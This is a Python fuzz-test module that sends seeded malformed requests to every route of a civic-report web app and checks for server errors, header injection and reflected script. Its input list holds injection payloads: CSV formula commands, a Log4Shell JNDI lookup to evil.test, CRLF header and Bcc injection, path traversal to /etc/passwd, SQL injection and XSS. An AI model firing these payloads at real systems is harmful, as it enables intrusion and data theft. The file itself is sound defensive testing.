"""Generated bad inputs over every route: an answer of ours each time, never a fault of the server.

Bodies are near misses: right JSON with something wrong in it, wrong bytes, texts that are an
attack somewhere (CSV, headers, templates, logs, paths, SQL). Every route of the app is an entrance
and so is every kind of caller. The generator has a seed, so that a failure can be had again.
"""

from __future__ import annotations

import importlib
import json
import random
from collections import Counter
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from tests.fakes.world import POTHOLE, WITH_MAIL, Answer, World

#: A text that is harmless here and an attack where somebody forgot what it meets.
HOSTILE = (
    "=HYPERLINK(\"https://evil.test\",\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "x\r\nSet-Cookie: a=b", "x\nBcc: a@evil.test", "\r\n\r\n<html>", "{{ 7*7 }}", "{% raw %}",
    "${jndi:ldap://evil.test}", "%n%s%x", "<script>alert(1)</script>", "../../etc/passwd",
    "..%2f..%2f", "' OR 1=1 --", "R#TL-7K3QX9MW", "EVENT#000001", "\u202eevil", "\ufeff", "\x7f",
    "a" * 5000, "💥" * 300, "ا" * 100, "NaN", "null", "true", "-0", "1e999", "0x1F", "", " ",
    "2027-02-30", "9999-12-31T23:59:60Z", "TL-00000000", "id/../../x", "__proto__", "constructor",
)  # fmt: skip
NUMBERS: tuple[Any, ...] = (0, -1, 2**31, 2**63, 2**64, -(2**63) - 1, 1.5, 1e308, -1e-308)
WHO = ("", "operator", "verifikator", "petugas.pupr", "kadis.pupr", "sekda", "admin", "nobody")
FIELDS = (
    "category", "description", "location", "reporter", "visibility", "language", "source",
    "observed_at", "answers", "reason", "note", "outcome", "photos", "agency", "into", "score",
    "text", "photo", "until", "question", "id", "name", "url", "body", "version", "roles",
)  # fmt: skip
#: Lead to the issuer, which is not in memory; their own tests bring one.
SIGN_IN = frozenset({"/masuk", "/masuk/kembali", "/keluar"})
_REQUESTS_SAMPLE, _REQUESTS = 700, 12_000


class Generator:
    """Makes requests from a seed."""

    def __init__(self, seed: int, number: str, token: str) -> None:
        self.chance = random.Random(seed)
        self.number, self.token = number, token
        app = importlib.import_module("app").app
        self.routes = sorted(
            (path, method)
            for path, methods in app.routes.items()
            if path not in SIGN_IN
            for method in methods
        )

    def text(self) -> str:
        return self.chance.choice(HOSTILE)

    def value(self, depth: int = 0) -> Any:
        kind = self.chance.randrange(8 if depth < 3 else 5)
        if kind < 3:
            return self.text()
        if kind == 3:
            return self.chance.choice(NUMBERS)
        if kind == 4:
            return self.chance.choice((None, True, False))
        if kind < 7:
            return [self.value(depth + 1) for _ in range(self.chance.randrange(4))]
        return {self.chance.choice(FIELDS): self.value(depth + 1) for _ in range(3)}

    def body(self) -> bytes | None:
        kind = self.chance.randrange(10)
        if kind == 0:
            return None
        if kind == 1:
            return self.chance.randbytes(self.chance.randrange(200))
        if kind == 2:
            text = json.dumps(WITH_MAIL).encode()
            return text[: self.chance.randrange(len(text))]
        base = dict(POTHOLE) if self.chance.random() < 0.5 else {}
        changes = {self.chance.choice(FIELDS): self.value() for _ in range(3)}
        return json.dumps(base | changes).encode()

    def target(self, path: str) -> str:
        parts = []
        for part in path.strip("/").split("/"):
            if not part.startswith("{"):
                parts.append(part)
            elif part == "{number}" and self.chance.random() < 0.6:
                parts.append(self.number)
            else:
                parts.append(self.text().replace("/", "") or "x")
        query = ""
        if self.chance.random() < 0.4:
            names = ("limit", "cursor", "from", "to", "lang", "group", "status", "category", "q")
            query = "?" + "&".join(
                f"{self.chance.choice(names)}={quote(self.text())}" for _ in range(2)
            )
        return "/" + "/".join(parts).replace("?", "") + query

    def headers(self) -> dict[str, str]:
        names = ("Idempotency-Key", "If-None-Match", "Accept-Language", "Content-Type", "Cookie")
        if self.chance.random() < 0.5:
            return {}
        return {self.chance.choice(names): self.text()}

    def requests(self, count: int) -> Iterator[tuple[str, str, bytes | None, dict[str, Any]]]:
        """Yield method, target, body and how to call; every route in turn."""
        for place in range(count):
            path, method = self.routes[place % len(self.routes)]
            user = self.chance.choice(WHO)
            how: dict[str, Any] = {"headers": self.headers(), "user": user}
            if not user and self.chance.random() < 0.6:
                how["token"] = self.chance.choice((self.token, self.text(), "lrt_x"))
            yield method, self.target(path), self.body() if method != "GET" else None, how


def faults(answer: Answer) -> Iterator[str]:
    """Yield what no answer may be, whatever was sent."""
    if answer.status >= 500:
        yield f"status {answer.status}: {answer.body[:200]!r}"
    for name, value in answer.headers.items():
        if "\r" in str(value) or "\n" in str(value):
            yield f"a line end in header {name}"
    if "X-Content-Type-Options" not in answer.headers:
        yield "no nosniff"
    if b"<script>alert(1)" in answer.body and "json" not in answer.headers["Content-Type"]:
        yield "markup came back"


def played(world: World, seed: int, count: int) -> tuple[Counter[int], list[str]]:
    """Send *count* requests; return how often each status came, and what was wrong."""
    number = world.filed(WITH_MAIL)["number"]
    generator = Generator(seed, number, world.token_of(number))
    statuses: Counter[int] = Counter()
    wrong = []
    for method, target, body, how in generator.requests(count):
        answer = world.call(method, target, body, **how)
        statuses[answer.status] += 1
        wrong += [f"{method} {target} {body!r} {how}: {what}" for what in faults(answer)]
    return statuses, wrong


def test_no_bad_input_of_a_fixed_sample_is_a_fault_of_the_server() -> None:
    with World().running() as world:
        statuses, wrong = played(world, 7, _REQUESTS_SAMPLE)
    assert wrong == []
    assert statuses.total() == _REQUESTS_SAMPLE
    assert {400, 401, 403, 404, 422} <= set(statuses)


@pytest.mark.long
@pytest.mark.timeout(3600)
@pytest.mark.parametrize("seed", range(4))
def test_no_bad_input_of_twelve_thousand_is_a_fault_of_the_server(seed: int) -> None:
    with World().running() as world:
        statuses, wrong = played(world, 100 + seed, _REQUESTS // 4)
    assert wrong == []
    assert statuses.total() == _REQUESTS // 4
